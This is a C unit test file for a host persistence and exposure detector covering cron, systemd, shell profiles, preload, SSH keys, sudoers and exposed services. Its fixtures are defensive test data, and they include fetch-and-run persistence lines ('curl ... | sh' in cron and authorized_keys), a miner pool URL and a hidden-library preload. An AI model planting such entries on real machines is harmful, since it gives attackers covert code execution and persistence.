#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <cmocka.h>

#include "detect/exposure/exposure.h"

enum { NOTHING = -1 };

static const instant now = {1};

static struct setup_entry first_entry(enum setup_form form, const char *text)
{
	struct setup_reader reader;
	struct setup_entry entry;

	setup_begin(&reader, form, str_from(text));
	assert_true(setup_next(&reader, &entry));
	return entry;
}

static void expect(const char *what, bool found, const struct finding *f, int severity,
		   const char *rule)
{
	if (found != (severity != NOTHING))
		fail_msg("%s: %s", what, found ? "accused" : "not seen");
	if (!found)
		return;
	if ((int)f->severity != severity)
		fail_msg("%s: severity %s", what, severity_name(f->severity));
	assert_true(str_equal(f->rule.id, str_from(rule)));
	assert_true(f->reason_count > 0 && f->title.len > 0 && f->action_count > 0);
}

static void entries_are_judged(void **state)
{
	static const struct {
		enum setup_form form;
		const char *path, *text, *rule;
		int severity;
	} rows[] = {
		{SETUP_CRONTAB, "/etc/cron.d/x", "@reboot root curl -s http://203.0.113.5/i | sh",
		 "runs-what-it-fetches", SEVERITY_HIGH},
		{SETUP_CRONTAB, "/etc/cron.d/x", "@reboot root curl -s https://example.org/ping",
		 NULL, NOTHING},
		{SETUP_UNIT, "/etc/systemd/system/x.service",
		 "ExecStart=/opt/x -o stratum+tcp://p.example.net:1", "starts-miner",
		 SEVERITY_HIGH},
		{SETUP_UNIT, "/etc/systemd/system/x.service", "ExecStart=/usr/sbin/cron -f", NULL,
		 NOTHING},
		{SETUP_PROFILE,
		 "/root"
		 "/.bashrc",
		 "python3 -c 'exec(__import__(\"os\").popen(\"x\"))'", "runs-hidden-program",
		 SEVERITY_MEDIUM},
		{SETUP_PROFILE,
		 "/root"
		 "/.bashrc",
		 "export PATH=/opt/bin:$PATH", NULL, NOTHING},
		{SETUP_PRELOAD, "/etc/ld.so.preload", "/usr/local/lib/libhide.so", "preload",
		 SEVERITY_HIGH},
		{SETUP_PRELOAD, "/etc/ld.so.preload", "/usr/lib/libjemalloc.so.2", "preload",
		 SEVERITY_MEDIUM},
		{SETUP_KEYS,
		 "/root"
		 "/.ssh/authorized_keys",
		 "command=\"curl http://203.0.113.5/i | sh\" ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAA "
		 "x",
		 "key-runs", SEVERITY_HIGH},
		{SETUP_KEYS,
		 "/root"
		 "/.ssh/authorized_keys",
		 "command=\"rsync --server\",no-pty ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAA x", NULL,
		 NOTHING},
		{SETUP_KEYS, "/home/USER/.ssh/authorized_keys",
		 "ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB x", NULL, NOTHING},
		{SETUP_KEYS, "/var/lib/redis/.ssh/authorized_keys",
		 "ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB x", "key-of-service", SEVERITY_MEDIUM},
		{SETUP_SUDOERS, "/etc/sudoers.d/x", "ann ALL=(ALL) NOPASSWD: /bin/x, ALL",
		 "sudo-without-password", SEVERITY_MEDIUM},
		{SETUP_SUDOERS, "/etc/sudoers.d/x",
		 "ann ALL=(ALL) NOPASSWD: /usr/bin/apt-get update", NULL, NOTHING},
		{SETUP_SYSCTL, "/etc/sysctl.d/x.conf", "vm.nr_hugepages=1280", "huge-pages",
		 SEVERITY_INFO},
		{SETUP_MODPROBE, "/etc/modprobe.d/x.conf", "options msr allow_writes=on",
		 "msr-writes", SEVERITY_MEDIUM},
	};
	struct arena arena;

	assert_int_equal(arena_init(&arena, 1 << 16), 0);
	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		const struct exposure_file file = {.path = str_from(rows[i].path),
						   .form = rows[i].form,
						   .mode = 0100644,
						   .now = now};
		struct setup_entry entry = first_entry(rows[i].form, rows[i].text);
		struct finding finding;
		arena_reset(&arena);
		bool found = exposure_of_entry(&file, &entry, &arena, &finding);
		expect(rows[i].text, found, &finding, rows[i].severity, rows[i].rule);
	}
	arena_fini(&arena);
}

static void files_and_programs_are_judged(void **state)
{
	static const struct {
		const char *path;
		enum setup_form form;
		uint32_t mode;
		enum exposure_reach reach;
		int severity;
	} rows[] = {
		{"/etc/cron.d/x", SETUP_CRONTAB, 0100666, REACH_ANYBODY, SEVERITY_HIGH},
		{"/etc/cron.d/x", SETUP_CRONTAB, 0100644, REACH_ROOT, NOTHING},
		{"/home/USER/.bashrc", SETUP_PROFILE, 0100644, REACH_USER, NOTHING},
		{"/home/USER/.bashrc", SETUP_PROFILE, 0100666, REACH_ANYBODY, SEVERITY_HIGH},
		{"/etc/systemd/system/masked.service", SETUP_UNIT, 0020666, REACH_ANYBODY, NOTHING},
		{"/usr/local/bin", SETUP_SCRIPT, 0040777, REACH_ANYBODY, SEVERITY_HIGH},
		{"/tmp/x.json", SETUP_MINER, 0100666, REACH_ANYBODY, NOTHING},
		{"/var/run/docker.sock", SETUP_SERVICE, 0140666, REACH_ANYBODY, SEVERITY_HIGH},
		{"/var/run/docker.sock", SETUP_SERVICE, 0140660, REACH_ROOT, NOTHING},
	};
	struct arena arena;
	struct finding finding;

	assert_int_equal(arena_init(&arena, 1 << 16), 0);
	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		const struct exposure_file file = {.path = str_from(rows[i].path),
						   .weak = str_from(rows[i].path),
						   .form = rows[i].form,
						   .mode = rows[i].mode,
						   .reach = rows[i].reach,
						   .now = now};
		bool found = exposure_of_file(&file, &arena, &finding);
		expect(rows[i].path, found, &finding, rows[i].severity,
		       rows[i].form == SETUP_SERVICE ? "docker-socket" : "writable-setup");
	}
	const struct exposure_file crontab = {.path = STR("/etc/crontab"), .form = SETUP_CRONTAB};
	struct exposure_file program = {
		.path = STR("/opt/x"), .weak = STR("/opt"), .reach = REACH_ANYBODY};
	struct setup_entry roots = first_entry(SETUP_CRONTAB, "@daily root /opt/x");
	struct setup_entry anns = first_entry(SETUP_CRONTAB, "@daily ann /opt/x");
	assert_true(exposure_of_program(&crontab, &roots, &program, &arena, &finding));
	expect("anybody", true, &finding, SEVERITY_HIGH, "writable-program");
	assert_false(exposure_of_program(&crontab, &anns, &program, &arena, &finding));
	program.reach = REACH_USER;
	assert_true(exposure_of_program(&crontab, &roots, &program, &arena, &finding));
	expect("a user", true, &finding, SEVERITY_LOW, "users-program");
	program.reach = REACH_ROOT;
	assert_false(exposure_of_program(&crontab, &roots, &program, &arena, &finding));
	arena_fini(&arena);
}

static void sshd_takes_the_first_value(void **state)
{
	static const struct {
		const char *text;
		int severity;
	} rows[] = {
		{"PermitRootLogin yes\n", SEVERITY_HIGH},
		{"permitrootlogin=yes\nPasswordAuthentication yes", SEVERITY_HIGH},
		{"PasswordAuthentication no\nPermitRootLogin yes", NOTHING},
		{"PermitRootLogin no\nPermitRootLogin yes", NOTHING},
		{"PermitRootLogin prohibit-password", NOTHING},
		{"Match Address 10.0.0.0/8\nPermitRootLogin yes", NOTHING},
		{"PermitEmptyPasswords yes", SEVERITY_HIGH},
		{"", NOTHING},
	};
	struct arena arena;

	assert_int_equal(arena_init(&arena, 1 << 16), 0);
	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		const struct exposure_file file = {.path = STR("/etc/ssh/sshd_config"),
						   .form = SETUP_SSHD};
		struct exposure_sshd sshd = {.place = STR("x:1")};
		struct setup_reader reader;
		struct setup_entry entry;
		struct finding finding;
		setup_begin(&reader, SETUP_SSHD, str_from(rows[i].text));
		while (setup_next(&reader, &entry))
			(void)exposure_sshd_take(&sshd, &entry);
		bool found = exposure_of_sshd(&sshd, &file, &arena, &finding);
		expect(rows[i].text, found, &finding, rows[i].severity, "ssh-root-password");
	}
	arena_fini(&arena);
}

static void servers_are_judged(void **state)
{
	static const struct {
		const char *name, *arguments, *settings, *listens;
		uint16_t port;
		enum exposure_door door;
		enum exposure_answer answer;
	} rows[] = {
		{"dockerd", "dockerd -H tcp://0.0.0.0:2375", NULL, "0.0.0.0", 2375, DOOR_DOCKER,
		 EXPOSURE_FOUND},
		{"dockerd", "dockerd -H tcp://0.0.0.0:2376 --tlsverify", NULL, "0.0.0.0", 2376,
		 DOOR_DOCKER, EXPOSURE_NONE},
		{"dockerd", "dockerd -H tcp://127.0.0.1:2375", NULL, "127.0.0.1", 2375, DOOR_DOCKER,
		 EXPOSURE_NONE},
		{"kubelet", "kubelet --anonymous-auth=true", NULL, "0.0.0.0", 10250, DOOR_KUBELET,
		 EXPOSURE_FOUND},
		{"kubelet", "kubelet --config=/k",
		 "authentication:\n  anonymous:\n    enabled: true\n", "0.0.0.0", 10250,
		 DOOR_KUBELET, EXPOSURE_FOUND},
		{"kubelet", "kubelet --config=/k",
		 "authentication:\n  anonymous:\n    enabled: false\n", "0.0.0.0", 10250,
		 DOOR_KUBELET, EXPOSURE_NONE},
		{"kubelet", "kubelet", NULL, "0.0.0.0", 10250, DOOR_KUBELET, EXPOSURE_CANNOT_TELL},
		{"redis-server", "/usr/bin/redis-server 0.0.0.0:6379", "protected-mode no\n",
		 "0.0.0.0", 6379, DOOR_REDIS, EXPOSURE_FOUND},
		{"redis-server", "/usr/bin/redis-server 0.0.0.0:6379",
		 "protected-mode no\nrequirepass x\n", "0.0.0.0", 6379, DOOR_REDIS, EXPOSURE_NONE},
		{"redis-server", "/usr/bin/redis-server 0.0.0.0:6379", "# requirepass x\n",
		 "0.0.0.0", 6379, DOOR_REDIS, EXPOSURE_NONE},
		{"redis-server", "/usr/bin/redis-server 0.0.0.0:7000", "requirepass x\n", "0.0.0.0",
		 7000, DOOR_REDIS, EXPOSURE_CANNOT_TELL},
		{"redis-server", "redis-server *:6379", NULL, "0.0.0.0", 6379, DOOR_REDIS,
		 EXPOSURE_CANNOT_TELL},
		{"redis-server", "redis-server --protected-mode no", NULL, "::", 6379, DOOR_REDIS,
		 EXPOSURE_FOUND},
		{"redis-server", "redis-server --protected-mode no", NULL, "::1", 6379, DOOR_REDIS,
		 EXPOSURE_NONE},
		{"etcd", "etcd --listen-client-urls http://0.0.0.0:2379", NULL, "0.0.0.0", 2379,
		 DOOR_ETCD, EXPOSURE_FOUND},
		{"etcd", "etcd --listen-client-urls=https://0.0.0.0:2379 --client-cert-auth", NULL,
		 "0.0.0.0", 2379, DOOR_ETCD, EXPOSURE_NONE},
		{"python3", "python3 /usr/bin/jupyter-lab --ip=0.0.0.0 --ServerApp.token=", NULL,
		 "0.0.0.0", 8888, DOOR_JUPYTER, EXPOSURE_FOUND},
		{"python3", "python3 /usr/bin/jupyter-lab --ip=0.0.0.0", NULL, "0.0.0.0", 8888,
		 DOOR_JUPYTER, EXPOSURE_NONE},
		{"java", "java org.apache.hadoop.yarn.server.resourcemanager.ResourceManager",
		 "<value>simple</value>", "0.0.0.0", 8088, DOOR_YARN, EXPOSURE_FOUND},
		{"java", "java org.elasticsearch.bootstrap.Elasticsearch",
		 "xpack.security.enabled: false\n", "0.0.0.0", 9200, DOOR_ELASTICSEARCH,
		 EXPOSURE_FOUND},
		{"java", "java org.elasticsearch.bootstrap.Elasticsearch",
		 "network.host: 0.0.0.0\n", "0.0.0.0", 9200, DOOR_ELASTICSEARCH, EXPOSURE_NONE},
		{"java", "java -jar app.jar", NULL, "0.0.0.0", 8080, DOOR_NONE, EXPOSURE_NONE},
		{"grep", "grep dockerd", NULL, "0.0.0.0", 1, DOOR_NONE, EXPOSURE_NONE},
	};
	struct arena arena;

	assert_int_equal(arena_init(&arena, 1 << 16), 0);
	for (size_t i = 0; i < sizeof(rows) / sizeof(*rows); i++) {
		static struct process process;
		struct finding finding;
		process = (struct process){.name = str_from(rows[i].name),
					   .arguments = str_from(rows[i].arguments),
					   .socket_count = 1};
		process.sockets[0].is_tcp = process.sockets[0].is_listening = true;
		char text[ENDPOINT_TEXT_MAX];
		snprintf(text, sizeof(text), strchr(rows[i].listens, ':') ? "[%s]:%u" : "%s:%u",
			 rows[i].listens, rows[i].port);
		assert_true(endpoint_parse(str_from(text), &process.sockets[0].local));
		struct str settings = str_from(rows[i].settings);
		assert_int_equal(exposure_door_of(&process), rows[i].door);
		enum exposure_answer answer = exposure_of_door(STR("h"), rows[i].door, &process,
							       rows[i].settings ? &settings : NULL,
							       now, &arena, &finding);
		if (answer != rows[i].answer)
			fail_msg("%s with %s: %d", rows[i].arguments, rows[i].settings, answer);
		if (answer == EXPOSURE_FOUND)
			assert_true(finding.reason_count > 0 && finding.action_count > 0);
	}
	arena_fini(&arena);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(entries_are_judged),
		cmocka_unit_test(files_and_programs_are_judged),
		cmocka_unit_test(sshd_takes_the_first_value),
		cmocka_unit_test(servers_are_judged),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
